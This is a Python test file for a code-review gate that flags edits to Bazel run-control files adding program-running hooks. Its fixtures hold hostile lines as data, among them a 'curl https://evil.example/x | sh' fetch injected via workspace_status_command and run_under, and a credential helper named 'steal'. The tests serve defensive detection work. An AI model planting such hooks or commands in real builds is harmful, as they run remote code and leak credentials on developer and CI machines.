"""Red team 38: a Bazel run-control line that makes Bazel run a program, edited in the run-control file itself.

`build --workspace_status_command=...` runs its command at the start of every `bazel build`, `--credential_helper=`
at every fetch from a remote cache or download host (and it prints the build's credentials), `--run_under=` before
every `bazel run` and `bazel test` target: on each developer's machine and in every CI job that builds with Bazel.
Classes52 made the *script* such a line names `ci` (bazelhooks.py, with --tree), but the run-control file holding the
line stayed `other` (the sets label `.bazelrc` of build flags `other`), so an edit that adds or changes the line
itself, with an inline command (`"--workspace_status_command=curl ... | sh"`), a program outside the repository
(`/bin/sh`), or a script the change leaves alone, was allowed by the default gate from the patch and with --tree
(exit 0 on e3004c0). A run-control file (any name platformshapes.is_bazelrc reads: `.bazelrc`, `ci.bazelrc`,
`.bazelrc.ci`, `.bazelrc.user`, an imported `tools/bazel/ci.rc`) whose text holds such a line on a Bazel command's
line is `ci` now (`ci.content.bazel-hook`), as the module-source lines of the same files are `deps`.

And the reader of the scripts missed a quoted whole option: `build "--workspace_status_command=bash tools/st.sh"`
(Bazel's run-control parser takes a quoted word whole, and runs the command through the shell): the script stayed
`src` with --tree.

Every variant is one real repository, git's own patch and the CLI's packet, gated by the default policy from the
patch and with --tree.
"""

from __future__ import annotations

from pathlib import Path

from changecase import committed, gated_rules
from tables import each_case

from gatekeeper.classify.platformshapes import platform_shape

FETCH = "curl -fsSL https://evil.example/x | sh"
FLAGS = "build --jobs=4\ncommon --enable_bzlmod\n"
WORKFLOW = ("on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
            "      - run: bazel build //...\n")
HOOKS = {
    "status-inline": f'build "--workspace_status_command={FETCH}"',
    "status-inline-value": f"build --workspace_status_command='{FETCH}'",
    "status-absolute": "build --workspace_status_command=/bin/sh",
    "status-spaced": "build:ci --workspace_status_command /usr/bin/env",
    "credential-helper": "common --credential_helper=*.example.com=/usr/local/bin/steal",
    "credential-helper-old": "common --experimental_credential_helper=%workspace%/tools/cred.sh",
    "run-under": f"test \"--run_under=sh -c '{FETCH}'\"",
    "run-under-always": "always --run_under=//tools:wrap",
}
NAMES = [".bazelrc", "ci.bazelrc", ".bazelrc.ci", ".bazelrc.user", "tools/bazel/ci.rc"]
# Lines that run nothing: a commented-out hook, a flag of another name, the text in a file no Bazel reads.
CALM = [(".bazelrc", "build --jobs=8"), (".bazelrc", "# build --workspace_status_command=tools/st.sh"),
        (".bazelrc", "build --stamp --workspace_status_commands_x=1"),
        ("docs/bazel-notes.md", "build --workspace_status_command=tools/st.sh")]


def _base(path: str) -> dict[str, str]:
    return {".github/workflows/ci.yml": WORKFLOW, "MODULE.bazel": 'module(name = "app")\n', path: FLAGS}


@each_case("name, hook", [(name, hook) for name in NAMES for hook in HOOKS])
def test_a_run_control_line_that_runs_a_program_is_ci(tmp_path: Path, name: str, hook: str) -> None:
    case = committed(tmp_path, _base(name), {name: FLAGS + HOOKS[hook] + "\n"})
    for tree in (False, True):
        code, named = gated_rules(case, tree)
        assert code == 3 and named.get("core.ci") == [name], (tree, named)  # before: other, exit 0


@each_case(("name", "line"), CALM)
def test_a_line_that_runs_nothing_keeps_its_class(tmp_path: Path, name: str, line: str) -> None:
    case = committed(tmp_path, _base(name), {name: FLAGS + line + "\n"})
    for tree in (False, True):
        assert gated_rules(case, tree) == (0, {}), tree


def test_the_shape_reads_every_hook_spelling() -> None:
    for hook, line in HOOKS.items():
        for name in NAMES:
            shape = platform_shape(name.rpartition("/")[2], FLAGS + line + "\n")
            assert shape is not None and shape[:2] == ("ci", "ci.content.bazel-hook"), (hook, name, shape)
    # A hook beside a module-source line: ci wins (the program runs; the sources are only moved).
    shape = platform_shape(".bazelrc", "common --registry=https://r.example\n" + HOOKS["status-absolute"] + "\n")
    assert shape is not None and shape[0] == "ci"


QUOTED = {
    "whole-word": 'build "--workspace_status_command=bash tools/st.sh"',
    "whole-word-single": "build '--workspace_status_command=python3 %workspace%/tools/st.sh'",
    "run-under-whole": 'test "--run_under=sh tools/st.sh"',
    "helper-whole": 'common "--credential_helper=*.example.com=tools/st.sh"',  # held on e3004c0 (the value read)
}


@each_case("form", QUOTED)
def test_a_script_a_quoted_whole_option_runs_is_ci(tmp_path: Path, form: str) -> None:
    base = _base(".bazelrc") | {".bazelrc": FLAGS + QUOTED[form] + "\n", "tools/st.sh": "#!/bin/sh\necho STABLE 1\n"}
    case = committed(tmp_path, base, {"tools/st.sh": f"#!/bin/sh\n{FETCH}\n"})
    code, named = gated_rules(case, True)
    assert code == 3 and named.get("core.ci") == ["tools/st.sh"], named  # before: src, exit 0


def test_a_quoted_whole_module_source_line_is_deps() -> None:
    """The same quoting for the module-source lines (red team 17's reader): `other` on e3004c0, added with the fix."""
    shape = platform_shape(".bazelrc", 'common "--registry=https://evil.example/"\n')
    assert shape is not None and shape[:2] == ("deps", "deps.content.bazel-module-source")


# More options that make Bazel run a program of the change's choosing: the shell of every genrule and shell action
# (`--shell_executable`), the JVM the Bazel server itself runs on (`startup --server_javabase`), and a Java agent
# loaded into the server (`startup --host_jvm_args=-javaagent:...`). None is in the 276 mirrored run-control files.
PROGRAMS = {
    "shell-executable": ("build --shell_executable=tools/sh", "tools/sh"),
    "shell-executable-spaced": ("build:ci --shell_executable %workspace%/tools/sh", "tools/sh"),
    "server-javabase": ("startup --server_javabase=tools/jdk/bin/java", "tools/jdk/bin/java"),
    "java-agent": ("startup --host_jvm_args=-javaagent:tools/agent.jar", ""),  # a jar is not looked up (a limit)
}


@each_case("program", PROGRAMS)
def test_a_program_bazel_runs_as_its_shell_or_server_is_ci(tmp_path: Path, program: str) -> None:
    line, path = PROGRAMS[program]
    case = committed(tmp_path, _base(".bazelrc"), {".bazelrc": FLAGS + line + "\n"})
    for tree in (False, True):
        code, named = gated_rules(case, tree)
        assert code == 3 and named.get("core.ci") == [".bazelrc"], (tree, named)  # before: other, exit 0
    if not path:
        return
    base = _base(".bazelrc") | {".bazelrc": FLAGS + line + "\n", path: "#!/bin/sh\nexec /bin/sh \"$@\"\n"}
    case = committed(tmp_path / "named", base, {path: f"#!/bin/sh\n{FETCH}\nexec /bin/sh \"$@\"\n"})
    code, named = gated_rules(case, True)
    assert code == 3 and named.get("core.ci") == [path], named  # before: src, exit 0
